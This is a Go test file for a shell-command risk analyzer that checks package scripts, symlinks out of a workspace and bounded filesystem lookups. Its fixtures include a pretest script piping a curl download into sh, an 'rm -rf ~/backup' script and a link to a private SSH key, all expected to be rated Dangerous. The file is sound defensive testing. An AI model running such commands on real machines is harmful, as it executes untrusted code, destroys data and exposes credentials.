package shell_test

import (
	"fmt"
	"io/fs"
	"strings"
	"testing"

	"github.com/sayso-dev/sayso/shell"
	"github.com/sayso-dev/sayso/shell/unpack"
)

// A fakeMachine shows files from a map; a value that starts with "->" is a
// link, one that is "/" a folder.
type fakeMachine struct {
	unpack.Unpacker

	files map[string]string
	asked int
}

func (m *fakeMachine) ReadFile(name string, max int) ([]byte, error) {
	m.asked++
	text, ok := m.files[name]
	if !ok {
		return nil, fs.ErrNotExist
	}
	if len(text) > max {
		return nil, fmt.Errorf("%s is too long", name)
	}
	return []byte(text), nil
}

func (m *fakeMachine) Lstat(name string) (shell.Entry, error) {
	m.asked++
	text, ok := m.files[name]
	if !ok {
		return shell.Entry{}, fs.ErrNotExist
	}
	link, isLink := strings.CutPrefix(text, "->")
	if isLink {
		return shell.Entry{Link: link}, nil
	}
	return shell.Entry{Dir: text == "/"}, nil
}

func onMachine(t *testing.T, files map[string]string, src string) (*shell.Analysis, *fakeMachine) {
	t.Helper()
	m := &fakeMachine{files: files}
	for _, dir := range []string{"/home", "/home/dev", "/home/dev/app"} {
		files[dir] = "/"
	}
	at := corpusPlace
	at.Machine = m
	a, err := shell.Analyze(src, at)
	if err != nil {
		t.Fatal(err)
	}
	return a, m
}

// TestPackageScripts: what a package script does is seen up to three levels.
func TestPackageScripts(t *testing.T) {
	pkg := `{"scripts": {
		"dev": "vite", "start": "npm run dev", "up": "npm run start", "deep": "npm run up",
		"clean": "rm -rf ~/backup", "pretest": "curl -s https://x.example/i.sh | sh", "test": "jest", "build": "tsc -p ."}}`
	tests := []struct {
		src  string
		long bool
		risk shell.Risk
	}{
		{"npm run dev", true, shell.Moderate},
		{"npm run start", true, shell.Moderate},
		{"npm start", true, shell.Moderate},
		{"pnpm run up", true, shell.Moderate},
		{"yarn run build", false, shell.Moderate},
		{"npm run clean", false, shell.Dangerous},
		{"npm test", false, shell.Dangerous}, // for its pretest
		{"cd web && npm run dev", true, shell.Moderate},
		{"npm run missing", false, shell.Moderate},
	}
	for _, tt := range tests {
		a, _ := onMachine(t, map[string]string{"/home/dev/app/package.json": pkg}, tt.src)
		if got := a.Effects.Has(shell.LongRunning); got != tt.long {
			t.Errorf("%s: long-running %v, want %v%s", tt.src, got, tt.long, detail(a))
		}
		if a.Risk != tt.risk {
			t.Errorf("%s: %v, want %v%s", tt.src, a.Risk, tt.risk, detail(a))
		}
	}
	a, _ := onMachine(t, map[string]string{"/home/dev/app/package.json": "{broken"}, "npm run dev")
	if a.Risk != shell.Moderate {
		t.Errorf("a broken package.json: %v", a.Risk)
	}
}

// TestLinks: a link that leads out of the workspace is judged by where it
// leads.
func TestLinks(t *testing.T) {
	files := map[string]string{
		"/home/dev/app/out":     "->/etc",
		"/home/dev/app/up":      "->../..",
		"/home/dev/app/in":      "->src",
		"/home/dev/app/src":     "/",
		"/home/dev/app/a":       "->b",
		"/home/dev/app/b":       "->a",
		"/home/dev/app/notes":   "->/home/dev/.ssh/id_rsa",
		"/home/dev/app/dangles": "->/nowhere/x",
	}
	for src, want := range map[string]shell.Risk{
		"touch out/x":    shell.Dangerous,
		"touch up/x":     shell.Dangerous,
		"touch in/x":     shell.Moderate,
		"touch dangles":  shell.Dangerous,
		"cat notes":      shell.Dangerous,
		"cat in/main.go": shell.Safe,
		"touch a/x":      shell.Moderate, // a loop leads nowhere
		"echo x > out/y": shell.Dangerous,
	} {
		a, _ := onMachine(t, files, src)
		if a.Risk != want {
			t.Errorf("%s: %v, want %v%s", src, a.Risk, want, detail(a))
		}
	}
}

// TestLooks: the number of questions is bounded.
func TestLooks(t *testing.T) {
	_, m := onMachine(t, map[string]string{}, "cat "+strings.Repeat("a/b/c/d/e/f ", 200))
	if m.asked > 512 {
		t.Errorf("asked %d times", m.asked)
	}
}

// TestExistingFolder: cd to a folder that is there does not fail.
func TestExistingFolder(t *testing.T) {
	a, _ := onMachine(t, map[string]string{"/home/dev/app/sub": "/"}, "cd sub; touch x")
	if strings.Contains(detail(a), "write:/home/dev/app/x") {
		t.Errorf("cd cannot have failed%s", detail(a))
	}
}

// TestTooManyLooks: where the machine cannot be asked any more, a link may be
// anywhere.
func TestTooManyLooks(t *testing.T) {
	a, _ := onMachine(t, map[string]string{}, "ls"+strings.Repeat(" d/x", 600)+"; echo x > link")
	if a.Risk > shell.Dangerous || len(a.Commands[len(a.Commands)-1].Opaque) == 0 {
		t.Errorf("%s", detail(a))
	}
}
